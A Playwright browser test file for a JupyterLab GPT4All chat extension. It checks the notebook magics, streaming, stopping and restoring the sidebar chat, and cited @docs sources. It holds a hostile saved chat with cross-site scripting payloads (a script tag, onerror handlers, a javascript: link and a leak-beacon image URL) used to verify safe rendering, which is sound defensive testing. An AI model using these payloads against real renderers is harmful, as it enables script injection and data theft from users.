"""JupyterLab in a real browser: the magics in a notebook, the chat panel in the right sidebar, and the
sources of a @docs answer. Each test is a list of named steps, each a function that can be read alone;
the server, the page and the steps' failure reports come from ``browser.py``.
"""

from __future__ import annotations

import json
import re
from typing import Any

import pytest
from browser import KERNEL_IDLE, RECORD_ANSWERS, browser_page, open_notebook, run_all_cells, write_notebook

pytestmark = [pytest.mark.browser, pytest.mark.slow]

SIDEBAR = "#jp-right-stack .gpt4all-sidebar"

# A saved chat whose answer tries every trick; it must show as text, and its code block goes into a cell.
HOSTILE_ANSWER = ("<script>window.__pwned = 2</script>\n\n<img src=x onerror=\"window.__pwned=3\">\n\n"
                  "[click](javascript:window.__pwned=4)\n\n![leak](http://127.0.0.1:9/leak?d=secret)\n\n```python\nprint('from the chat')\n```\n")


def test_notebook_magics_and_sidebar_chat(lab: dict[str, Any]) -> None:
    write_notebook(lab["root"] / "chat.ipynb", [
        "%load_ext gpt4all_magic",
        "%%gpt4all -t 0 -n 24\nSay hello to a new Jupyter user.",
        "import gpt4all_magic\ngpt4all_magic.chat(file='hostile-chat.json', new=True)",
    ])
    (lab["root"] / "hostile-chat.json").write_text(json.dumps({"messages": [
        {"role": "user", "content": "<img src=x onerror='window.__pwned=1'> hi"},
        {"role": "assistant", "content": HOSTILE_ANSWER}]}))
    with browser_page(lab) as (page, steps):
        for name, step in [("open the notebook", lambda: open_notebook(page, lab, "chat.ipynb")),
                           ("run the magics", lambda: run_the_magics(page)),
                           ("hostile output stays text; a code block goes into a new cell",
                            lambda: hostile_output_stays_text(page)),
                           ("open the chat from the command palette", lambda: open_chat_from_palette(page)),
                           ("send a message with Enter and watch it stream", lambda: send_and_watch_stream(page)),
                           ("stop a reply midway", lambda: stop_a_reply(page)),
                           ("reload the page and find the panel restored", lambda: reload_and_find_panel(page)),
                           ("restart the kernel and find the panel gone", lambda: restart_kernel(page)),
                           ("open the chat from the launcher, for the restarted kernel",
                            lambda: open_chat_from_launcher(page))]:
            with steps.step(name):
                step()


def run_the_magics(page: Any) -> None:
    from playwright.sync_api import expect

    run_all_cells(page)
    answer = page.locator(".jp-Cell").nth(1).locator(".jp-OutputArea-output")
    expect(answer.filter(has_text="tok/s")).to_have_count(1, timeout=90_000)
    text = answer.first.inner_text()
    assert len(text.strip()) > 5, text
    assert "smollm2-135m-instruct · " in page.locator(".jp-Cell").nth(1).inner_text()


def hostile_output_stays_text(page: Any) -> None:
    from playwright.sync_api import expect

    inline = page.locator(".jp-Cell").nth(2).locator(".gpt4all-chat")
    expect(inline.locator(".gpt4all-msg-assistant")).to_contain_text("<script>window.__pwned = 2</script>")
    expect(inline.locator(".gpt4all-msg-user")).to_contain_text("onerror=")
    assert inline.locator("img, script, iframe").count() == 0
    assert page.locator("a[href^='javascript']").count() == 0
    assert page.evaluate("() => window.__pwned") is None
    inline.locator(".gpt4all-chat-insert").click()
    expect(page.locator(".jp-Cell")).to_have_count(4)
    expect(page.locator(".jp-Cell").nth(3).locator(".jp-InputArea")).to_contain_text("print('from the chat')")


def open_chat_from_palette(page: Any) -> None:
    from playwright.sync_api import expect

    sidebar = page.locator(SIDEBAR)
    page.keyboard.press("Control+Shift+C")
    palette = page.locator(".lm-CommandPalette-input")
    expect(palette).to_be_visible()
    palette.fill("Open GPT4All chat")
    page.locator(".lm-CommandPalette-item", has_text="Open GPT4All chat").first.click()
    expect(sidebar).to_be_visible(timeout=60_000)
    box = sidebar.bounding_box()
    assert box is not None and box["height"] > 300 and box["width"] > 200, box
    messages = sidebar.locator(".gpt4all-chat-messages").bounding_box()
    assert messages is not None and messages["height"] > 100, messages


def send_and_watch_stream(page: Any) -> None:
    from playwright.sync_api import expect

    sidebar = page.locator(SIDEBAR)
    page.evaluate(RECORD_ANSWERS)
    box = sidebar.locator(".gpt4all-chat-input textarea")
    box.click()
    page.keyboard.type("What is a Jupyter notebook? Answer in two sentences.")
    page.keyboard.press("Enter")
    expect(sidebar.locator(".gpt4all-msg-user")).to_have_count(1)
    done = sidebar.locator(".gpt4all-assistant[data-state=done]")
    expect(done).to_have_count(1, timeout=90_000)
    final = done.locator(".gpt4all-msg-body").inner_text().strip()
    assert final and final != "…"
    assert box.input_value() == ""  # sent and cleared; Enter made no newline
    snaps = [s["text"].strip() for s in page.evaluate("() => window.__g4snaps") if s["n"] == 1]
    partial = [s for s in snaps if s and s != "…" and s != final]
    assert len(partial) >= 2, snaps  # it streamed: several growing versions before the end
    growing = [len(s) for s in partial]
    assert growing == sorted(growing), snaps
    expect(sidebar.locator(".gpt4all-chat-status")).to_contain_text("tok/s")


def stop_a_reply(page: Any) -> None:
    from playwright.sync_api import expect

    sidebar = page.locator(SIDEBAR)
    page.evaluate(RECORD_ANSWERS)
    sidebar.locator(".gpt4all-chat-input textarea").click()
    page.keyboard.type("Write a long story about a dragon who learns to code.")
    page.keyboard.press("Enter")
    expect(sidebar.locator(".gpt4all-assistant[data-state=streaming]")).to_have_count(1, timeout=60_000)
    page.wait_for_function("() => window.__g4snaps.some(s => s.n === 2 && s.text.length > 20)")
    sidebar.locator(".gpt4all-chat-stop").click()
    stopped = sidebar.locator(".gpt4all-assistant[data-state=stopped]")
    expect(stopped).to_have_count(1, timeout=30_000)
    expect(stopped).to_contain_text("stopped")
    kept = stopped.locator(".gpt4all-msg-body").inner_text().strip()
    assert len(kept) > 20, kept
    status_line = sidebar.locator(".gpt4all-chat-status")
    expect(status_line).to_contain_text(re.compile(r"\+ \d+ tokens"))  # updated after the turn's state
    status = status_line.inner_text()
    tokens = int(re.search(r"\+ (\d+) tokens", status).group(1))
    assert 0 < tokens < 200, status  # cut before max_tokens


def reload_and_find_panel(page: Any) -> None:
    from playwright.sync_api import expect

    sidebar = page.locator(SIDEBAR)
    page.reload(wait_until="domcontentloaded")
    page.wait_for_function("() => window.jupyterapp && window.jupyterapp.shell.currentWidget")
    expect(sidebar).to_be_visible(timeout=60_000)
    expect(sidebar.locator(".gpt4all-msg-user")).to_have_count(2)
    assert sidebar.bounding_box()["height"] > 300
    expect(sidebar.locator(".gpt4all-assistant[data-state=stopped]")).to_have_count(1)


def restart_kernel(page: Any) -> None:
    from playwright.sync_api import expect

    page.wait_for_function(KERNEL_IDLE, timeout=60_000)
    # not awaited: the command's promise waits for the confirmation dialog below
    page.evaluate("() => { window.jupyterapp.commands.execute('kernelmenu:restart'); }")
    page.locator(".jp-Dialog-button.jp-mod-accept").click()
    expect(page.locator(SIDEBAR)).to_have_count(0, timeout=60_000)
    page.wait_for_function(KERNEL_IDLE, timeout=60_000)


def open_chat_from_launcher(page: Any) -> None:
    from playwright.sync_api import expect

    sidebar = page.locator(SIDEBAR)
    page.evaluate("async () => { window.__g4launcher = "
                  "(await window.jupyterapp.commands.execute('launcher:create')).id; }")
    card = page.locator(".jp-LauncherCard", has_text="Open GPT4All chat")
    # After the restart the notebook can take the focus back; bring the launcher forward until it has stayed
    # in front for three polls in a row.
    page.wait_for_function("() => { const app = window.jupyterapp; "
                           "const front = app.shell.currentWidget && "
                           "app.shell.currentWidget.id === window.__g4launcher; "
                           "if (!front) app.shell.activateById(window.__g4launcher); "
                           "window.__g4front = front ? (window.__g4front || 0) + 1 : 0; "
                           "return window.__g4front >= 3; }", polling=300)
    expect(card).to_be_visible()
    card.click()
    expect(sidebar).to_be_visible(timeout=60_000)
    assert sidebar.bounding_box()["height"] > 300
    expect(sidebar.locator(".gpt4all-msg-user")).to_have_count(0)  # the new kernel's own chat


LEAVE = ("# Leave policy\n\n## Annual leave\n\nFull-time employees are entitled to 28 days of paid annual leave per "
         "calendar year, plus public holidays.\n\n## Sick leave\n\nReport sickness to your manager before 10:00.\n")
BIKES = "# Bikes\n\nClean and lubricate the chain every 300 kilometres.\n"


def test_sidebar_chat_cites_documents_and_opens_them(lab: dict[str, Any]) -> None:
    """@docs:NAME in the sidebar chat: the answer lists its sources, and a click opens the file at its line."""
    handbook = lab["root"] / "handbook"
    handbook.mkdir()
    (handbook / "leave.md").write_text(LEAVE)
    (handbook / "bikes.md").write_text(BIKES)
    write_notebook(lab["root"] / "docs.ipynb", [
        "%load_ext gpt4all_magic\n%gpt4all config temp=0 max_tokens=12",
        "%gpt4all docs add handbook handbook",
        "%gpt4all chat --sidebar",
    ])
    with browser_page(lab) as (page, steps):
        with steps.step("docs: open the notebook, index the folder, open the sidebar chat"):
            index_and_open_chat(page, lab)
        with steps.step("docs: ask with @docs:handbook and see the sources under the answer"):
            source = ask_with_docs(page)
        with steps.step("docs: click a source and find the file open in JupyterLab"):
            open_a_source(page, source)


def index_and_open_chat(page: Any, lab: dict[str, Any]) -> None:
    from playwright.sync_api import expect

    open_notebook(page, lab, "docs.ipynb")
    run_all_cells(page)
    expect(page.locator(".jp-Cell").nth(1).locator(".jp-OutputArea")).to_contain_text(
        "handbook: 2 file(s) indexed", timeout=180_000)  # under its progress bar
    expect(page.locator(SIDEBAR)).to_be_visible(timeout=60_000)


def ask_with_docs(page: Any) -> Any:
    from playwright.sync_api import expect

    sidebar = page.locator(SIDEBAR)
    sidebar.locator(".gpt4all-chat-input textarea").click()
    page.keyboard.type("@docs:handbook How many vacation days do I get per year?")
    page.keyboard.press("Enter")
    done = sidebar.locator(".gpt4all-assistant[data-state=done]")
    expect(done).to_have_count(1, timeout=180_000)
    source = done.locator(".gpt4all-sources a.gpt4all-source").first
    expect(source).to_contain_text("[1] handbook/leave.md, lines 1–")
    assert source.get_attribute("data-path") == "handbook/leave.md"
    assert source.get_attribute("data-line") == "1"
    assert done.locator(".gpt4all-sources script, .gpt4all-sources img").count() == 0
    return source


def open_a_source(page: Any, source: Any) -> None:
    from playwright.sync_api import expect

    source.click()
    page.wait_for_function("() => { const w = window.jupyterapp.shell.currentWidget; "
                           "return w && w.context && w.context.path === 'handbook/leave.md'; }")
    expect(page.locator(".jp-FileEditor").filter(has_text="28 days of paid annual leave")).to_be_visible()
